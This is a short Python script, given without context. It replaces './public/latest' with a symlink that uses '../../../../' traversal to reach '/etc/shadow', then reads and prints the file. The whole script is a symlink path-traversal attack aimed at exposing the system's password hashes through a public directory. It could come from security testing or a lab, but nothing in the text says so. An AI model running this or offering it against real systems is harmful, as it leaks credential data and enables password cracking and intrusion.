import os

link = "./public/latest"
if os.path.lexists(link):
    os.remove(link)
os.symlink("../../../../etc/shadow", link)
with open(link) as f:
    print(f.read())
